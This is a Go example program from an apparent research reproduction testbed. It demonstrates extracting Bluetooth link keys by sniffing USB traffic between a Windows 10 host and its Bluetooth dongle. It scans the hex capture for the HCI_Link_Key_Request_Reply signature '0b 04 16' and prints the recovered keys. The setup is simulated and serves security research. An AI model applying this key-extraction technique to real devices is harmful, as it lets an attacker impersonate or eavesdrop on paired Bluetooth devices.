// Link key extraction through USB sniffing (paper §IV-B, §VI-B1,
// Fig. 11): the victim accessory is a Windows 10 PC whose host stack does
// not offer an HCI dump — but its Bluetooth controller is a USB dongle,
// and a bus analyzer sees every HCI packet, including the plaintext
// HCI_Link_Key_Request_Reply. The paper's tooling converts the raw
// capture to hex ASCII and searches for the "0b 04 16" opcode signature;
// this example does exactly that.
package main

import (
	"fmt"
	"log"
	"strings"
	"time"

	"repro/internal/core"
	"repro/internal/device"
	"repro/internal/forensics"
	"repro/internal/usbsniff"
)

func main() {
	tb, err := core.NewTestbed(1104, core.TestbedOptions{
		ClientPlatform:   device.Windows10MSDriver,
		ClientUSBSniffer: true, // the bus analyzer is clipped on
		Bond:             true,
	})
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("C is %s running the %s stack; HCI transport: %s\n\n",
		tb.C.Platform.Model, tb.C.Platform.StackName, tb.C.Platform.Transport)

	// Reconnect M and C so the key request/reply crosses the bus while
	// the analyzer is capturing (mirrors the paper's Fig. 11 setup where
	// both sides record the same session).
	tb.MUser.ExpectPairing(tb.C.Addr())
	tb.M.Host.Pair(tb.C.Addr(), func(err error) {
		if err != nil {
			log.Fatalf("reconnect failed: %v", err)
		}
	})
	tb.Sched.RunFor(30 * time.Second)

	raw := tb.C.USB.Raw()
	fmt.Printf("captured %d bytes of raw USB traffic\n", len(raw))

	// The paper's BinaryToHex converter, then the pattern scan.
	hexDump := usbsniff.BinaryToHex(raw)
	idx := strings.Index(hexDump, "0b 04 16")
	fmt.Printf("first \"0b 04 16\" at hex offset %d\n", idx)
	if idx >= 0 {
		end := idx + 3*26
		if end > len(hexDump) {
			end = len(hexDump)
		}
		fmt.Printf("  ... %s ...\n\n", hexDump[idx:end])
	}

	keys := usbsniff.ExtractLinkKeys(raw)
	if len(keys) == 0 {
		log.Fatal("no keys in the USB capture")
	}
	for _, k := range keys {
		fmt.Printf("extracted from USB: peer %s key %s\n", k.Peer, k.Key)
	}

	// Fig. 11's cross-check: the same key appears in M's HCI dump.
	var snoopKey string
	for _, e := range forensics.Analyze(tb.M.Snoop.Records()).Exposures {
		if e.Peer == tb.C.Addr() {
			snoopKey = e.Key.String()
		}
	}
	fmt.Printf("\nM's HCI dump shows:   %s\n", snoopKey)
	fmt.Printf("keys match across captures: %v\n", snoopKey == keys[0].Key.String())
}
